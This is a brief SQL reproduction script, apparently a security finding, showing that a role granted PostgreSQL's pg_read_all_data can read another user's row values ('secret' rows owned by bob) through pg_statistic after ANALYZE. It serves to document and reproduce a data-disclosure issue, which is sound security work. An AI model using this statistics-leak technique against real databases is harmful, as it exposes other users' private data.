-- finding: role-predefined role pg_read_all_data
-- server: 14..
CREATE ROLE team; GRANT pg_read_all_data TO team; GRANT team TO "alice@example.com";
INSERT INTO shop.orders (item, owner) SELECT 'secret', 'bob@example.com' FROM generate_series(1, 100);
ANALYZE shop.orders;
-- leak as alice@example.com shows secret
SELECT stavalues1::text FROM pg_statistic WHERE starelid = 'shop.orders'::regclass;
